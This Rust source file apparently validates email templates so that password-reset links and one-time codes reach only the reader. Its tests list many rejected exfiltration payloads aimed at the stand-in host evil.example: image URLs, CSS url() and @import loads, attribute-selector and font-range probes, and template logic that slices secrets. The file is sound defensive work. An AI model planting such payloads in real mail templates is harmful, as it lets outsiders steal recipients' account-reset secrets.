//! Where a template may say what proves its reader: a link or a code belongs to whoever reads the mail, and to nobody whom
//! the mail's pictures, styles or other links lead to. It is written as it is, stands in the words between blanks, or is the
//! whole address behind an `<a>`. What staff may write, staff may not read.

use html5gum::{DefaultEmitter, Error, Token, Tokenizer};
use sereno_types::EmailSource;

use super::super::mails::Rendered;
use super::engine::{Fault, Part};
use super::scan::{self, Place};

/// Elements whose content is no text.
const RAW: [&[u8]; 11] = [
    b"script",
    b"style",
    b"title",
    b"textarea",
    b"xmp",
    b"iframe",
    b"noembed",
    b"noframes",
    b"noscript",
    b"plaintext",
    b"svg",
];

/// Elements that load rules, or what rules can ask about.
const LOADING: [&[u8]; 7] = [b"link", b"base", b"script", b"iframe", b"object", b"embed", b"frame"];

const WATCHING: &str = "a mail with a link or a code has no style that loads anything (url, @import) and no link, base, script, \
                        iframe, object, embed or frame: what they load could tell others what stands in the mail";
const ALONE: &str = "stands by itself: as {{ name }}, or {% if name %}";
const MISPLACED: &str =
    "link and code stand between blanks, or as the whole href of an a: anywhere else they could be read by others";
const UNFINISHED: &str = "a tag or a comment has no end";

/// What is wrong with how a source uses these variables: taken apart, compared or changed they could be told in pieces.
#[must_use]
pub fn used(source: &EmailSource, secrets: &[&str]) -> Vec<Fault> {
    Part::of(source)
        .into_iter()
        .filter_map(|(part, text)| {
            let (place, name) = changed(text, secrets)?;
            Some(Fault::at(part, place, ALONE.replace("name", name)))
        })
        .collect()
}

/// The first expression that does more with a secret than say it.
fn changed<'a>(source: &str, secrets: &[&'a str]) -> Option<(Place, &'a str)> {
    let mut at = 0;
    while let Some(found) = source[at..].find('{') {
        let open = at + found;
        let rest = &source[open..];
        let close = match rest.get(..2) {
            Some("{{") => "}}",
            Some("{%") => "%}",
            Some("{#") => "#}",
            _ => {
                at = open + 1;
                continue;
            }
        };
        // one without an end is refused where it is compiled
        let end = if close == "#}" {
            rest.find(close)
        } else {
            end_of(rest, close)
        }?;
        let inner = rest[2..end].trim_matches(['-', '+']).trim();
        at = open + end + close.len();
        if close == "#}" {
            continue;
        }
        let words = inner.split(|c: char| !c.is_ascii_alphanumeric() && c != '_');
        let Some(name) = secrets.iter().find(|name| words.clone().any(|word| word == **name)) else {
            continue;
        };
        let tidy: Vec<&str> = inner.split_whitespace().collect();
        let is_plain = match close {
            "}}" => inner == *name,
            _ => match tidy.as_slice() {
                // whether there is one tells nothing of what it is
                ["if" | "elif", said]
                | ["if" | "elif", "not", said]
                | ["if" | "elif", said, "==" | "!=", "\"\"" | "''"] => said == name,
                _ => false,
            },
        };
        if !is_plain {
            return Some((scan::place(source, open), name));
        }
    }
    None
}

/// Where the sign stands that ends an expression: quotations may hold it, too.
fn end_of(text: &str, close: &str) -> Option<usize> {
    let mut at = 2;
    while let Some(c) = text[at..].chars().next() {
        match c {
            '"' | '\'' => at += scan::quoted(&text[at..], c)?,
            _ if text[at..].starts_with(close) => return Some(at),
            _ => at += c.len_utf8(),
        }
    }
    None
}

/// What is wrong with where a mail says these values.
#[must_use]
pub fn placed(said: &Rendered, secrets: &[&str]) -> Vec<Fault> {
    let mut faults = Vec::new();
    let refuse = |part, words: &str| Fault::at(part, Place::FIRST, words);
    for (part, text) in [(Part::Subject, &said.subject), (Part::Text, &said.text)] {
        if !between_blanks(text, secrets) {
            faults.push(refuse(part, MISPLACED));
        }
    }
    if let Err(words) = in_html(&said.html, secrets) {
        faults.push(refuse(Part::Html, words));
    }
    if !secrets.is_empty() {
        faults.extend(watching(&said.html));
    }
    faults
}

/// What is wrong with the styles that stand in one mail with a secret: a rule may depend on what stands elsewhere in it
/// (`a[href*=…]`, the letters of a font), and what it loads then tells whoever is asked for it.
#[must_use]
pub fn watching(html: &str) -> Vec<Fault> {
    let refuse = || vec![Fault::at(Part::Html, Place::FIRST, WATCHING)];
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let mut is_style = false;
    for Ok(token) in Tokenizer::new_with_emitter(html, emitter) {
        match token {
            Token::StartTag(tag) => {
                is_style = tag.name.as_slice() == b"style";
                let styled = tag.attributes.iter().find(|(name, _)| name.as_slice() == b"style");
                if LOADING.contains(&tag.name.as_slice()) || styled.is_some_and(|(_, value)| loads(value)) {
                    return refuse();
                }
            }
            Token::EndTag(_) => is_style = false,
            Token::String(text) if is_style && loads(&text) => return refuse(),
            Token::String(_) | Token::Comment(_) | Token::Doctype(_) | Token::Error(_) => {}
        }
    }
    Vec::new()
}

/// Whether a style loads something, or hides behind an escape that it does.
fn loads(style: &[u8]) -> bool {
    let style = String::from_utf8_lossy(style).to_ascii_lowercase();
    ["url", "@import", "image", "src", "\\"].iter().any(|word| {
        style.match_indices(word).any(|(at, _)| match *word {
            "@import" | "\\" => true,
            // `background-image: none` loads nothing, `image-set(…)` does
            _ => style[at + word.len()..]
                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '-')
                .starts_with('('),
        })
    })
}

fn in_html(html: &str, secrets: &[&str]) -> Result<(), &'static str> {
    let mut emitter = DefaultEmitter::default();
    emitter.naively_switch_states(true);
    let mut words = String::new();
    let mut raw = 0_usize;
    // where nothing is decoded, `&` may stand as it was escaped
    let pieces: Vec<&str> = secrets
        .iter()
        .flat_map(|secret| secret.split('&'))
        .filter(|piece| piece.len() > 5)
        .collect();
    let holds = |bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes);
        pieces.iter().any(|piece| text.contains(piece))
    };
    for Ok(token) in Tokenizer::new_with_emitter(html, emitter) {
        if !matches!(token, Token::String(_) | Token::Error(_)) && !between_blanks(&std::mem::take(&mut words), secrets)
        {
            return Err(MISPLACED);
        }
        match token {
            Token::String(text) if raw > 0 && holds(&text) => return Err(MISPLACED),
            Token::String(text) => words.push_str(&String::from_utf8_lossy(&text)),
            Token::StartTag(tag) => {
                let is_link = tag.name.as_slice() == b"a";
                for (name, value) in &tag.attributes {
                    let whole = String::from_utf8_lossy(value);
                    let is_whole = secrets.contains(&whole.trim());
                    if holds(name) || (holds(value) && !(is_link && name.as_slice() == b"href" && is_whole)) {
                        return Err(MISPLACED);
                    }
                }
                if holds(&tag.name) {
                    return Err(MISPLACED);
                }
                // only of elements that are not HTML's does the slash close anything
                let is_closed = tag.self_closing && tag.name.as_slice() == b"svg";
                raw += usize::from(RAW.contains(&tag.name.as_slice()) && !is_closed);
            }
            Token::EndTag(tag) => raw = raw.saturating_sub(usize::from(RAW.contains(&tag.name.as_slice()))),
            Token::Comment(text) if holds(&text) => return Err(MISPLACED),
            Token::Doctype(kind) if holds(&kind.name) => return Err(MISPLACED),
            // what has no end would take in what the layout puts behind it
            Token::Error(error) if is_open(error.value) => return Err(UNFINISHED),
            Token::Comment(_) | Token::Doctype(_) | Token::Error(_) => {}
        }
    }
    if between_blanks(&words, secrets) {
        Ok(())
    } else {
        Err(MISPLACED)
    }
}

const fn is_open(error: Error) -> bool {
    matches!(
        error,
        Error::EofInTag | Error::EofInComment | Error::EofBeforeTagName | Error::EofInDoctype | Error::EofInCdata
    )
}

/// Whether each value is a word of its own, with nothing around it but brackets, quotation marks and full stops: a mail
/// program makes an address of whatever looks like one, and takes along what hangs on it.
fn between_blanks(text: &str, secrets: &[&str]) -> bool {
    let is_around = |c: char| {
        !c.is_ascii_alphanumeric()
            && !matches!(
                c,
                '/' | ':' | '@' | '?' | '&' | '=' | '#' | '%' | '_' | '-' | '+' | '\\'
            )
    };
    secrets.iter().filter(|secret| !secret.is_empty()).all(|secret| {
        text.match_indices(secret).all(|(at, _)| {
            let before = text[..at]
                .rsplit(|c: char| c.is_ascii_whitespace())
                .next()
                .unwrap_or("");
            let after = text[at + secret.len()..]
                .split(|c: char| c.is_ascii_whitespace())
                .next()
                .unwrap_or("");
            before.chars().all(|c| is_around(c) && !c.is_alphanumeric() && c != '.')
                && after.chars().all(|c| is_around(c) && !c.is_alphanumeric())
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINK: &str = "https://id.example.org/account/reset?token=abc&x=1";
    const CODE: &str = "1234-5678";

    fn html(text: &str) -> bool {
        let said = Rendered {
            subject: "Reset".to_owned(),
            text: format!("Open\n{LINK}\nor type {CODE}."),
            html: text
                .replace("{{ link }}", &LINK.replace('&', "&amp;"))
                .replace("{{ code }}", CODE),
        };
        placed(&said, &[LINK, CODE]).is_empty()
    }

    #[test]
    fn a_reader_sees_or_clicks_a_secret() {
        for good in [
            r#"<p>Open <a class="x" href="{{ link }}">{{ link }}</a> or type <b>{{ code }}</b>.</p>"#,
            "<p>Your code (valid once): {{ code }}.</p>",
            r#"<p>“{{ code }}”</p><a href=' {{ link }} '>Set</a><img src="https://cdn.example/logo.png">"#,
            "<!--[if mso]><table><![endif]--><style>p { color: red }</style><p>{{ code }}</p>",
        ] {
            assert!(html(good), "{good}");
        }
    }

    #[test]
    fn nobody_else_gets_one() {
        for evil in [
            r#"<img src="https://evil.example/?{{ link }}">"#,
            r#"<img src="{{ link }}">"#,
            r#"<a href="https://evil.example/?{{ link }}">Set</a>"#,
            r#"<a href="{{ link }}&to=evil">Set</a>"#,
            r#"<area href="{{ link }}">"#,
            r#"<p style="background: url(https://evil.example/{{ code }})">x</p>"#,
            "<style>p { background: url(https://evil.example/?{{ code }}) }</style>",
            r#"<style></style><style>@import "https://evil.example/?{{ link }}"</style>"#,
            "<p>https://evil.example/?{{ code }}</p>",
            "<p>{{ code }}.evil.example</p>",
            "<p>evil.example:{{ code }}</p>",
            "<p>evil.example/&#x2f;{{ code }}</p>",
            "<!-- {{ link }} -->",
            r#"<img alt=">" src="https://evil.example/?{{ link }}">"#,
            r#"<img alt=a"b src=https://evil.example/?{{ code }}>"#,
            "<img src='https://evil.example/? {{ code }} '>",
            r#"<p>{{ code }}</p><img src="https://evil.example/?"#,
            "<p>{{ code }}</p><!-- ",
            "<textarea>{{ code }}</textarea>",
            "<p {{ code }}=1>x</p>",
            r#"<svg><image href="https://evil.example/?{{ code }}"/></svg>"#,
            r#"<p>{{ code }}</p><style/>@import url("https://evil.example/? {{ code }} ");</style>"#,
            "<p>{{ code }}</p><title/>{{ code }}</title>",
        ] {
            assert!(!html(evil), "{evil}");
        }
    }

    /// What a rule loads may depend on what stands anywhere in the mail.
    #[test]
    fn no_style_watches_a_secret() {
        for evil in [
            r#"<style>a[href*="token=A"] { background: url(https://evil.example/A) }</style>"#,
            r#"<style>a[href*="token=A"] { background: u\72l(https://evil.example/A) }</style>"#,
            r#"<style>@import "https://evil.example/rules.css";</style>"#,
            "<style>@font-face { font-family: a; src: URL(https://evil.example/1); unicode-range: U+31 }</style>",
            r#"<style>p { background: image-set("https://evil.example/1" 1x) }</style>"#,
            r#"<p style="background-image: url(https://evil.example/1)">x</p>"#,
            r#"<link rel="stylesheet" href="https://evil.example/rules.css">"#,
            r#"<script src="https://evil.example/a.js"></script>"#,
            "<style/>a { background: url(https://evil.example/A) }</style>",
        ] {
            assert!(!watching(evil).is_empty(), "{evil}");
            assert!(!html(&format!("<p>{{{{ code }}}}</p>{evil}")), "{evil}");
        }
        for good in [
            "<style>@media (prefers-color-scheme: dark) { p { color: #fff; background-image: none } }</style>",
            r#"<p style="background: #fff; font-family: 'Inter', sans-serif; width: calc(100% - 2px)">url(x) @import</p>"#,
            r#"<img src="https://cdn.example/logo.png" srcset="https://cdn.example/logo2.png 2x" alt="">"#,
        ] {
            assert_eq!(watching(good), [], "{good}");
            assert!(html(&format!("<p>{{{{ code }}}}</p>{good}")), "{good}");
        }
    }

    #[test]
    fn in_plain_text_it_is_a_word() {
        let said = |text: &str| {
            let text = text.replace("{{ link }}", LINK).replace("{{ code }}", CODE);
            let said = Rendered {
                subject: String::new(),
                html: String::new(),
                text,
            };
            placed(&said, &[LINK, CODE]).is_empty()
        };
        for good in [
            "{{ code }}",
            "Open {{ link }}.",
            "<{{ link }}>\n({{ code }})",
            "> {{ link }}\r\n",
        ] {
            assert!(said(good), "{good}");
        }
        for evil in [
            "https://evil.example/?{{ link }}",
            "evil.example/{{ code }}",
            "{{ code }}.evil.example",
            "a{{ code }}",
        ] {
            assert!(!said(evil), "{evil}");
        }
    }

    #[test]
    fn a_secret_is_not_taken_apart() {
        let source = |html: &str| EmailSource {
            subject: "x".to_owned(),
            text: "x".to_owned(),
            html: html.to_owned(),
        };
        for good in [
            "{{ code }}",
            "{{- link -}}",
            "{% if code %}{{ code }}{% elif not link %}x{% endif %}",
            "{# code|first #}{{ encode }}{{ name|upper }}",
            r#"{% if code != "" %}{{ code }}{% elif link == '' %}x{% endif %}"#,
        ] {
            assert_eq!(used(&source(good), &["link", "code"]), [], "{good}");
        }
        for evil in [
            "{{ code|first }}",
            "{{ code[0] }}",
            "{% for c in code %}{{ c }}{% endfor %}",
            r#"{% if code == "1" %}<img src="https://evil.example/1">{% endif %}"#,
            r#"{% if "1" in code %}x{% endif %}"#,
            "{{ name or link }}",
            "{{ link|lower }}",
            r#"{% for c in "%}" and link %}{{ c }}_{% endfor %}"#,
            r#"{{ "}}" and code[2:3] }}"#,
            r"{{ '\'}}' and code }}",
        ] {
            let faults = used(&source(evil), &["link", "code"]);
            assert_eq!(faults.len(), 1, "{evil}");
            assert_eq!(faults[0].part, Part::Html);
        }
    }
}
